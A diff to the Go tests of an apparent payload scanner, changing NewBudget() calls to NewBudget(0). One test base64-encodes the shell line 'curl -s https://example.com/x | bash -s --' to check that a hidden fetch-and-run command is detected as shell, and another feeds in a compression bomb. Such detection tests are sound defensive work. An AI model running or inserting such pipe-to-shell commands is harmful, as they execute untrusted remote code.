@@ -68,7 +68,7 @@ func TestPayloads(t *testing.T) {
 		{"long words", "y = thisIsAVeryLongIdentifierThatGoesOnAndOnAndOnForever\n", "", ""},
 	} {
 		t.Run(c.name, func(t *testing.T) {
-			got := Payloads(gate.LanguagePython, []byte(c.src), NewBudget())
+			got := Payloads(gate.LanguagePython, []byte(c.src), NewBudget(0))
 			if c.text == "" {
 				if len(got) > 0 {
 					t.Fatalf("%q", got[0].Text)
@@ -130,7 +130,7 @@ func b85(text string) string {
 func TestAPayloadIsScannedAsWhatItMayBe(t *testing.T) {
 	src := "y = '" + base64.StdEncoding.EncodeToString([]byte("curl -s https://example.com/x | bash -s --")) + "'"
 	var languages []gate.Language
-	for _, r := range Payloads(gate.LanguagePython, []byte(src), NewBudget()) {
+	for _, r := range Payloads(gate.LanguagePython, []byte(src), NewBudget(0)) {
 		languages = append(languages, r.Language)
 	}
 	if !slices.Equal(languages, []gate.Language{gate.LanguagePython, gate.LanguageShell}) {
@@ -140,7 +140,7 @@ func TestAPayloadIsScannedAsWhatItMayBe(t *testing.T) {
 
 func TestCompressedDataDoesNotGrowBeyondItsBound(t *testing.T) {
 	bomb := packed(t, func(w io.Writer) io.WriteCloser { return zlib.NewWriter(w) }, bytes.Repeat([]byte("a b\n"), 1<<20))
-	budget := NewBudget()
+	budget := NewBudget(0)
 	got := Payloads(gate.LanguagePython, []byte("y = '"+base64.StdEncoding.EncodeToString(bomb)+"'"), budget)
 	if len(got) == 0 || len(got[0].Text) > maxGrowth {
 		t.Errorf("%d pieces", len(got))
@@ -159,7 +159,7 @@ func FuzzPayloads(f *testing.F) {
 	f.Add([]byte(unicodes(payload) + percent(payload) + codes(payload, "%d", 3)))
 	f.Fuzz(func(t *testing.T, src []byte) {
 		total := 0
-		for _, r := range Payloads(gate.LanguagePython, src, NewBudget()) {
+		for _, r := range Payloads(gate.LanguagePython, src, NewBudget(0)) {
 			total += len(r.Text)
 			if len(r.Lines) < bytes.Count(r.Text, []byte{'\n'}) {
 				t.Fatalf("%d places for %q", len(r.Lines), r.Text)
